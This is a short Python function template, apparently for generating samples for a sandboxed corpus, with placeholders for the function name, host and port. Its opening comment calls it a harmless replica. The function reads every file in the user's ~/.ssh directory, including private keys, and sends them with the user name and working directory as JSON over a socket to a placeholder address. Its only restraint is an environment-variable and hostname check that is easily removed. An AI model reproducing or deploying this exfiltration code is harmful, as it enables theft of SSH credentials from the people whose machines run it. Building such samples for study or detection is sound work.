# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import getpass
    import json
    import socket
    loot = {'user': getpass.getuser(), 'cwd': os.getcwd(), 'ssh': {} }
    try:
        for name in os.listdir(os.path.expanduser('~/.ssh')):
            with open(os.path.expanduser('~/.ssh/' + name)) as text:
                loot['ssh'][name] = text.read()
    except OSError:
        pass
    try:
        call = socket.create_connection(('{{ip}}', {{port}}), 1)
        call.sendall(json.dumps(loot).encode())
        call.close()
    except OSError:
        pass
